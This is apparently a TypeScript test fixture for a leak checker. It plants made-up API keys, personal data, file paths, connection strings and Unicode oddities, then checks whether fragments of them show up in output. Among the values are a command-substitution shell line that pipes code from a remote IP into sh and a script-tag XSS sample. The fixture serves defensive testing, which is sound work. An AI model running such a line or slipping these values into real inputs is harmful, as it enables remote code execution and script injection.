/** A secret planted by the tests, made up or from the vendors' own documentation. */
export interface Secret {
  readonly label: string;
  readonly value: string | number;
  /** Whether it looks exactly like an id, so that properties that are ids can't tell it apart. */
  readonly idShaped: boolean;
}

function secret(label: string, value: string | number, idShaped = false): Secret {
  return { label, value, idShaped };
}

// Vendors' keys are put together here, so that tools that look for leaked keys don't take these for real ones.
const KEYS: readonly Secret[] = [
  secret("OpenAI key", "sk-" + "proj-T3BlbkFJa8s7d6f5g4h3j2k1l0Zq"),
  secret("older OpenAI key", "sk-" + "abcdefghijklmnopqrstT3BlbkFJuvwxyz123456"),
  secret("Anthropic key", "sk-" + "ant-api03-zX9kQ7wE5rT3yU1iO0pA-AAAA"),
  secret("AWS access key", "AKIA" + "IOSFODNN7EXAMPLE"),
  secret("AWS secret key", "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"),
  secret("Google key", "AIza" + "SyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"),
  secret("GitHub token", "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"),
  secret("GitLab token", "glpat-" + "x7Kq2LmNpR9sTuVwYzAb"),
  secret("Slack token", "xoxb-" + "2444333222111-777666555444-AbCdEfGhIjKl"),
  secret("Slack webhook", "https://hooks.slack.com/services/" + "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"),
  secret("Stripe key", "sk_" + "live_4eC39HqLyjWDarjtT1zdp7dc"),
  secret("Twilio SID", "AC" + "9f8e7d6c5b4a39281706f5e4d3c2b1a0"),
  secret("Hugging Face token", "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNm12345678"),
  secret("Cohere key", "Qz7VxN3kL9mP2rT5wY8aB4cD6eF1gH0jKlMnOpQr"),
  secret("Azure key", "9c1f0e2d3b4a59687766554433221100", true),
  secret("Azure key with dashes", "9c1f0e2d-3b4a-5968-7766-554433221100", true),
  secret("SHA-256 of something else", "9c1f0e2d3b4a596877665544332211009c1f0e2d3b4a59687766554433221100", true),
  secret("npm token", "npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
  secret("SendGrid key", "SG." + "ngeVfQFYQlKU0ufo8x5d1A.TwL2iGABf9DHoTf-09kqeF8tAmbihYzrnopKc-1s5cr"),
  secret("Telegram token", "110201543:" + "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"),
  secret("JSON web token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqYW5lIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"),
  secret(
    "private key",
    "-----BEGIN " + "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----",
  ),
  secret("password", "hunter2hunter2!"),
  secret("basic authentication", "Basic amFuZTpodW50ZXIyaHVudGVyMg=="),
  secret("bearer", "Bearer q8Zr4Lx1Vn7Tc0Wm"),
];

const PEOPLE: readonly Secret[] = [
  secret("e-mail address", "jane.roe@acme-insurance.example"),
  secret("e-mail address beyond ASCII", "žofie.nováková@příklad.example"),
  secret("person", "Jane Elizabeth Roe"),
  secret("person beyond Latin", "Ольга Ивановна Петрова"),
  secret("person in Han characters", "王小明先生的銀行帳戶"),
  secret("person from right to left", "محمد عبد الله الأحمد"),
  secret("telephone number", "+1 555 0100 199"),
  secret("telephone number in figures", "00491511234567890"),
  secret("telephone number with dots", "555.010.0199"),
  secret("telephone number as a number", 4915112345678),
  secret("card number", "4111 1111 1111 1111"),
  secret("card number with dashes", "4111-1111-1111-1111"),
  secret("card number as a number", 4111111111111111),
  secret("card number as a fraction", 41111111.11111111),
  secret("IBAN", "DE89370400440532013000"),
  secret("IBAN with spaces", "GB29 NWBK 6016 1331 9268 19"),
  secret("social security number", "078-05-1120"),
  secret("date of birth", "1985-07-04T12:30:00Z"),
];

const PLACES: readonly Secret[] = [
  secret("Linux path", "/home/jane/projects/acme-bot/models"),
  secret("macOS path", "/Users/jane/Library/Application Support/acme"),
  secret("Windows path", "C:\\Users\\jane\\acme-bot\\config.yml"),
  secret("network path", "\\\\fileserver01\\acme$\\jane"),
  secret("file URL", "file:///srv/acme/credentials.yml"),
  secret("URL with password", "https://jane:hunter2@internal.acme.example:8443/api?token=abc123"),
  secret("git remote", "git@git.acme.example:bots/insurance.git"),
  secret("host name", "db-primary-01.internal.acme.example"),
  secret("IPv4 address", "203.0.113.195"),
  secret("IPv4 address as a number", 3405803971),
  secret("IPv6 address", "2001:db8:85a3::8a2e:370:7334"),
  secret("MAC address", "00:1b:44:11:3a:b7"),
  secret("user name", "jane_roe_acme"),
  secret("connection string", "postgresql://jane:hunter2@db.acme.example:5432/conversations"),
  secret("another connection string", "Server=tcp:acme.database.example,1433;User ID=jane;Password=hunter2;"),
  secret("Mongo connection string", "mongodb+srv://jane:hunter2@cluster0.acme.example/bot"),
  secret("bucket", "s3://acme-customer-transcripts/2025/07"),
  secret("ARN", "arn:aws:iam::123456789012:role/acme-bot"),
];

const TECHNIQUES: readonly Secret[] = [
  secret("utterance", "I want to cancel my insurance because my husband died"),
  secret("prompt", "You are Acme's assistant. Never mention competitors. {{ flows }}"),
  secret("response", "utter_ask_transfer_money_amount"),
  secret("intent", "request_refund_late_baggage"),
  secret("flow", "transfer_money_abroad"),
  secret("slot", "customer_iban_verified"),
  secret("custom class", "acme_bot.components.AcmeSentimentClassifier"),
  secret("custom class without a module", "AcmeFraudDetectionPolicy"),
  secret("custom class with a built-in name at the end", "acme_insurance.policies.FlowPolicy"),
  secret("fine-tuned model", "ft:gpt-4o-mini-2024-07-18:acme:insurance:9XyZaBcD"),
  secret("deployment", "acme-gpt-4-prod-westeurope"),
  secret("regular expression", "^[A-Z]{2}-ACME-[0-9]{6}$"),
  secret("exception message", "KeyError: 'jane.roe@acme.example'"),
  secret("source line", "password = os.environ['ACME_DB_PASSWORD']"),
  secret("SQL", "SELECT * FROM customers WHERE name = 'Roe'"),
  secret("shell", "$(curl http://203.0.113.9/x | sh)"),
  secret("markup", "<script>alert('acme-xss')</script>"),
];

const ODDITIES: readonly Secret[] = [
  secret("zero-width characters", "ac\u200bme\u200d-se\u2060cret\ufeff"),
  secret("bidirectional marks", "\u202eterces-emca\u202c\u2066"),
  secret("control characters", "acme\u0000secret\u001b[31m\u0007"),
  secret("line breaks", "acme\r\nsecret\u2028line\u2029"),
  secret("half a surrogate pair", "acme\ud800secret"),
  secret("decomposed letters", "a\u0301cme\u0308-geheim"),
  secret("wide letters", "ａｃｍｅ－ｓｅｃｒｅｔ"),
  secret("letters that look Latin", "асме-ѕесrеt-кеу"),
  secret("very long text", "acme-secret-".repeat(2_000)),
  secret("emoji", "🔑🔒🏦👩🏽‍💼🔑🔒"),
];

/** What must never leave, whatever property it is planted in. */
export const SECRETS: readonly Secret[] = [...KEYS, ...PEOPLE, ...PLACES, ...TECHNIQUES, ...ODDITIES];

/** Shortest part of a secret that counts as leaked. */
const PART_LENGTH = 8;

/** What of a secret is found in a text, but not in `known`. Case is ignored: ids and languages change theirs. */
export function leaked(text: string, value: string | number, known = ""): string | undefined {
  const secret = String(value).toLowerCase();
  const [searched, allowed] = [text.toLowerCase(), known.toLowerCase()];
  const length = Math.min(PART_LENGTH, secret.length);
  for (let start = 0; start + length <= Math.min(secret.length, 200); start++) {
    const part = secret.slice(start, start + length);
    // Both as it is, and as JSON writes it.
    const found = searched.includes(part) || searched.includes(JSON.stringify(part).slice(1, -1));
    if (found && !allowed.includes(part)) return part;
  }
  return undefined;
}
